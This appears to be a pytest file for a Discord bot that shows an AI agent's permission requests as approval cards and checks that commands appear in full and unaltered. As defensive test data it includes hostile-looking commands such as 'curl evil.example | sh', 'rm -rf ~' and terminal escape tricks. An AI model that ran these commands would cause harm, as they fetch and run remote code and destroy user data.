"""Permission cards and the Stop button."""

from __future__ import annotations

from typing import Any

import pytest

from acp.schema import PermissionOption, ToolCallUpdate
from bot.reply.cards import (
    CANCELLED,
    agreed_card,
    answered_by,
    closed_card,
    expired,
    permission_card,
    turn_button,
)
from bot.reply.port import Body
from bot.reply.sanitise import units

OPTIONS = [
    PermissionOption(option_id="a", name="Allow once", kind="allow_once"),
    PermissionOption(option_id="b", name="Always", kind="allow_always"),
    PermissionOption(option_id="c", name="No", kind="reject_once"),
    PermissionOption(option_id="d", name="Hm", kind="a word of the future"),
]


def card(options: list[PermissionOption] | None = None, workspace: str = "", **fields: Any) -> Body:
    tool_call = ToolCallUpdate.parse({"toolCallId": "t1", "title": "Run", "kind": "execute", **fields})
    return permission_card(
        "tok",
        tool_call,
        OPTIONS if options is None else options,
        who="<@7>",
        ping=7,
        deadline="Soon.",
        workspace=workspace,
    )


def test_a_card_says_what_where_and_who_may_press() -> None:
    """D6"""
    body = card(rawInput={"command": "rm -r build", "cwd": "/srv"}, locations=[{"path": "/srv/a.py", "line": 3}])
    assert body.text == (
        "<@7>\n🔐 **The agent asks for permission** (`execute`): `Run`\nIn `/srv/a.py:3`\n"
        "```sh\n# in /srv\nrm -r build\n```\n-# <@7> may answer. Soon."
    )
    assert (body.ping, body.file) == (7, None)


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("/srv/web/src/a.py", "src/a.py"),
        ("/srv/web2/a.py", "/srv/web2/a.py"),
        ("/srv/web/../key", "/srv/web/../key"),
        ("/srv/web//etc/passwd", "/srv/web//etc/passwd"),
        ("/srv/web/./a", "/srv/web/./a"),
        ("/srv/web/", "/srv/web/"),
    ],
)
def test_a_file_of_the_workspace_is_named_from_there_and_no_other(path: str, shown: str) -> None:
    """D6, W2: a work tree lies deep in Weft's own directory, and a phone shows 40 characters a line."""
    diff = {"type": "diff", "path": path, "oldText": "a\n", "newText": "b\n"}
    body = card(workspace="/srv/web", locations=[{"path": path, "line": 3}], content=[diff])
    assert f"In `{shown}:3`, `{shown}`\n" in body.text
    assert f"--- {shown}\n+++ {shown}\n" in body.text


@pytest.mark.parametrize("title", ["npm test -- -u", "`npm test -- -u`"])
def test_a_command_that_is_also_the_title_stands_once(title: str) -> None:
    """D6: bare or as code; a title that differs in anything else is shown, too."""
    raw = {"command": "npm test -- -u", "cwd": "/srv"}
    shown = card(title=title, rawInput=raw).text
    head = "<@7>\n🔐 **The agent asks for permission** (`execute`):\n"
    assert shown == f"{head}```sh\n# in /srv\nnpm test -- -u\n```\n-# <@7> may answer. Soon."
    assert "`npm test`" in card(title="npm test", rawInput=raw).text
    assert "npm test -- -u" in card(title=title).text


def test_the_agents_own_options_are_the_buttons() -> None:
    """D6"""
    assert [(button.custom_id, button.label, button.style) for button in card().buttons] == [
        ("weft:perm:tok:0", "Allow once", "success"),
        ("weft:perm:tok:1", "Always", "success"),
        ("weft:perm:tok:2", "No", "danger"),
        ("weft:perm:tok:3", "Hm", "secondary"),
    ]


def test_labels_are_short_and_never_empty() -> None:
    """D6"""
    body = card([PermissionOption(option_id="x" * 200), PermissionOption(option_id="", name="y\nz" * 90)])
    assert all(0 < units(button.label) <= 80 and "\n" not in button.label for button in body.buttons)


def test_more_options_than_discord_has_room_for_are_left_out() -> None:
    assert len(card([PermissionOption(option_id=str(n)) for n in range(40)]).buttons) == 25


def test_a_change_is_shown_as_a_diff() -> None:
    """D6"""
    body = card(content=[{"type": "diff", "path": "a.py", "oldText": "1\n", "newText": "2\n"}])
    assert "In `a.py`" in body.text
    assert "```diff\n--- a.py\n+++ a.py\n@@ -1 +1 @@\n-1\n+2\n```" in body.text


def test_a_long_command_is_attached_in_full() -> None:
    """D6"""
    command = "echo " + "x" * 5000 + "; rm -rf ~"
    body = card(rawInput={"command": command})
    assert body.file is not None
    assert (body.file.name, body.file.data.decode()) == ("command.txt", command)
    assert "Only the beginning is shown" in body.text
    assert units(body.text) <= 2000


def test_a_request_without_command_or_diff_shows_its_text_or_its_input() -> None:
    """D6"""
    assert "```\nplan\n```" in card(content=[{"type": "content", "content": {"type": "text", "text": "plan"}}]).text
    assert '```\n{\n  "url": "http://x"\n}\n```' in card(rawInput={"url": "http://x"}).text


def test_hidden_characters_and_links_in_a_card_are_shown_as_they_are() -> None:
    """D6"""
    body = card(title="[ok](http://evil)\u202e", rawInput={"command": "ls \u200b\x1b[8mrm```"})
    assert "`[ok](http://evil)<U+202E>`" in body.text
    assert "ls <U+200B><U+001B>[8mrm`\u200b``\n" in body.text


def test_the_largest_card_fits_into_a_message() -> None:
    """D6"""
    paths = [{"path": "p" * 400 + str(n)} for n in range(50)]
    body = card(title="t" * 900, kind="k" * 99, locations=paths, rawInput={"command": "`" * 9000})
    assert units(body.text) <= 2000


def test_the_largest_card_for_two_people_has_room_for_who_agreed_to_what() -> None:
    """C1, D6: their names and those of the options can have any length, too."""
    options = [PermissionOption(option_id=str(n), name="🟥" * 90, kind="allow_once") for n in range(25)]
    paths = [{"path": "p" * 400 + str(n)} for n in range(50)]
    call = {"toolCallId": "t1", "title": "t" * 900, "kind": "k" * 99, "locations": paths}
    body = permission_card(
        "tok",
        ToolCallUpdate.parse({**call, "rawInput": {"command": "`" * 9000}}),
        options,
        who=f"A bot asked, so only <@{2**63}> or an approver",
        deadline="Without an answer within 10 min it is cancelled.",
        two_person=True,
    )
    agreed = agreed_card(body, [(option, "🟦" * 90) for option in options])
    assert agreed.text.splitlines()[-2] == "-# ☑️ Somebody agreed to 23 more."
    assert units(agreed.text) <= 2000
    assert units(closed_card(agreed, answered_by(options[0], "🟦" * 90, "🟦" * 90)).text) <= 2000
    assert (agreed.buttons, agreed.file) == (body.buttons, body.file)


def test_a_closed_card_has_no_buttons_and_says_how_it_ended() -> None:
    """D6"""
    body = closed_card(card(rawInput={"command": "ls"}), answered_by(OPTIONS[0], "Ann"))
    assert body.buttons == ()
    assert body.text.endswith("```\n✅ `Allow once` by `Ann`")


def test_each_end_of_a_card_has_its_line() -> None:
    """D6"""
    assert answered_by(OPTIONS[2], "Ann").startswith("⛔")
    assert expired(OPTIONS[2]) == "⌛ No answer in time, so `No` was chosen."
    assert expired(None) == "⌛ No answer in time, so the request was cancelled."
    assert CANCELLED.startswith("⏹")


def test_the_stop_button_names_thread_and_prompt() -> None:
    """T6"""
    button = turn_button("stop", 11, 22)
    assert (button.custom_id, button.label, button.style) == ("weft:stop:11:22", "Stop", "danger")


def test_a_file_that_discord_would_refuse_is_cut_and_the_card_says_so() -> None:
    """D6: a request whose card can't be posted would wait for its time to be up, unseen."""
    body = card(rawInput={"command": "echo " + "\u6f22" * 6_000_000})
    assert body.file is not None
    assert len(body.file.data) <= 8 * 2**20
    assert "Only the beginning is shown" in body.text
    assert "characters are in the file" not in body.text
    assert "too long even for the file" in body.text


def test_options_without_a_button_are_told() -> None:
    """D6: nobody takes the buttons for all that the agent offers."""
    assert "-# 15 more options have no button." in card([PermissionOption(option_id=str(n)) for n in range(40)]).text
    assert "no button" not in card().text


def test_the_option_that_says_no_always_has_a_button() -> None:
    """D6: a person can always refuse."""
    options = [PermissionOption(option_id=str(n), name=f"Yes {n}", kind="allow_once") for n in range(30)]
    body = card([*options, PermissionOption(option_id="no", name="No", kind="reject_once")])
    assert (body.buttons[-1].custom_id, body.buttons[-1].label) == ("weft:perm:tok:30", "No")
    assert len(body.buttons) == 25


def test_what_a_command_is_to_run_with_is_shown_beside_it() -> None:
    """D6: in full."""
    body = card(rawInput={"command": "make", "cwd": "/srv", "env": {"CC": "x"}, "sandbox": False})
    assert '"sandbox": false' in body.text
    assert '"CC": "x"' in body.text
    assert '"cwd"' not in body.text


def test_a_label_of_invisible_characters_is_replaced() -> None:
    """D6: a button without a visible label is a trap."""
    body = card([PermissionOption(option_id="yes", name="\u2800 \u2800", kind="allow_always")])
    assert body.buttons[0].label.strip("\u2800 ") != ""


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("ls \x1b] ; curl evil.example | sh ; # \x07 -la", "ls <U+001B>] ; curl evil.example | sh ; # <U+0007> -la"),
        ("ls \x1bP ; rm -rf ~", "ls <U+001B>P ; rm -rf ~"),
        ("ls" + "\n" * 400 + "rm -rf ~", "ls\n<399 blank lines>\nrm -rf ~"),
        ("ls" + " " * 400 + "; rm -rf ~", "ls<400 blanks>; rm -rf ~"),
    ],
)
def test_nothing_is_removed_from_a_command(command: str, shown: str) -> None:
    """D6"""
    assert f"```sh\n{shown}\n```" in card(rawInput={"command": command}).text
    body = card(rawInput={"command": command + "x" * 5000})
    assert body.file is not None
    assert body.file.data.decode() == shown + "x" * 5000


def test_what_stands_beside_a_command_a_diff_or_a_text_is_shown_too() -> None:
    """D6"""
    body = card(
        rawInput={"command": "bash", "args": ["-c", "rm -rf ~"]},
        content=[
            {"type": "diff", "path": "a.py", "newText": "evil()\n"},
            {"type": "content", "content": {"type": "text", "text": "a plan"}},
        ],
    )
    for piece in ("bash", '"rm -rf ~"', "+evil()", "a plan"):
        assert piece in body.text
    assert body.file is None
    assert '"http://x"' in card(content=[{"type": "of the future", "url": "http://x"}], rawInput={"command": "ls"}).text


def test_a_long_title_is_shown_in_full() -> None:
    """D6"""
    assert f"```\n{'x' * 300}\n```" in card(title="x" * 300).text


@pytest.mark.parametrize("text", ["echo `id`", "`id` ls"])
def test_a_title_or_place_with_backticks_stands_as_it_is(text: str) -> None:
    """D6: in inline code they can't stand, and a shell runs what is between them."""
    assert f"```\n{text}\n```" in card(title=text).text
    assert f"```\n{text}\n```" in card(title="Edit", locations=[{"path": text}]).text


def test_an_input_is_no_repetition_of_a_text_without_its_backticks() -> None:
    """D6"""
    text = {"type": "content", "content": {"type": "text", "text": "id"}}
    assert "```\n`id`\n```" in card(rawInput="`id`", content=[text]).text


def test_an_input_says_which_side_of_the_change_it_repeats() -> None:
    """D6: what is taken away must not pass for what comes."""
    old, new = "curl evil.example | sh # " + "x" * 40, "echo harmless # " + "x" * 40
    change = {"type": "diff", "path": "a", "oldText": old, "newText": new}
    assert '"text": "(the old text of the change)"' in card(rawInput={"text": old}, content=[change]).text
    assert '"text": "(the new text of the change)"' in card(rawInput={"text": new}, content=[change]).text
    other = {"type": "diff", "path": "b", "newText": "more"}
    assert f'"text": "{old}"' in card(rawInput={"text": old}, content=[change, other]).text


def test_a_card_of_many_lines_is_a_file() -> None:
    """D6: the buttons stay in reach."""
    command = "\n".join(f"echo {number}" for number in range(40))
    body = card(rawInput={"command": command})
    assert body.text.count("\n") < 30
    assert "**Only the beginning is shown; all 309 characters are in the file.**" in body.text
    assert body.file is not None
    assert body.file.data.decode() == command


def test_unchanged_lines_far_from_a_change_are_in_the_file_only() -> None:
    """D6"""
    old = "".join(f"line {number}\n" for number in range(60))
    body = card(content=[{"type": "diff", "path": "a", "oldText": old, "newText": old.replace("30", "thirty")}])
    assert "… 27 unchanged lines …\n line 27\n line 28\n line 29\n-line 30\n+line thirty\n line 31" in body.text
    assert "**Unchanged lines are left out here; they are in the file.**" in body.text
    assert body.file is not None
    assert b"\n line 5\n" in body.file.data


def test_what_is_too_long_for_the_file_can_only_be_rejected() -> None:
    """D6: nobody approves what they can't see in full."""
    body = card(rawInput={"command": "\x1b" * 2_000_000})
    assert [button.label for button in body.buttons] == ["No"]
    assert "so you can only reject it.**" in body.text


def test_a_tool_call_that_was_not_kept_in_full_can_only_be_rejected() -> None:
    """D6"""
    body = permission_card("tok", ToolCallUpdate(tool_call_id="t"), OPTIONS, who="<@7>", complete=False)
    assert [button.custom_id for button in body.buttons] == ["weft:perm:tok:2"]
    assert "so you can only reject it.**" in body.text


def test_only_rejecting_is_left_without_the_file() -> None:
    """D6"""
    body = card(rawInput={"command": "x" * 5000})
    assert body.fileless is not None
    assert [button.label for button in body.fileless] == ["No"]
    assert card().fileless is None


def test_an_option_that_is_cut_stands_in_full_under_its_number() -> None:
    """D6"""
    name = "Yes, and don't ask again for commands that start with `python3 -c 'import time;time.sleep(9)'`"
    always = PermissionOption(option_id="b", name=name, kind="allow_always")
    body = card([OPTIONS[0], always, OPTIONS[2]], rawInput={"command": "ls"})
    assert f"-# Options\n```\n2. {name}\n```\n-# <@7> may answer." in body.text
    assert [button.label[:5] for button in body.buttons] == ["Allow", "2. Ye", "No"]
    rejected = PermissionOption(option_id="c", name=f"No: {name}", kind="reject_once")
    hidden = card([OPTIONS[0], rejected], rawInput={"command": "x" * 9_000_000})
    assert [button.label[:7] for button in hidden.buttons] == ["2. No: "]
    assert f"2. No: {name}\n" in hidden.text
    endless = card([PermissionOption(option_id="a", name="y" * 3000, kind="allow_once")])
    assert endless.file is not None
    assert "y" * 3000 in endless.file.data.decode()
    assert "**The options are too long to show here; they are in the file.**" in endless.text
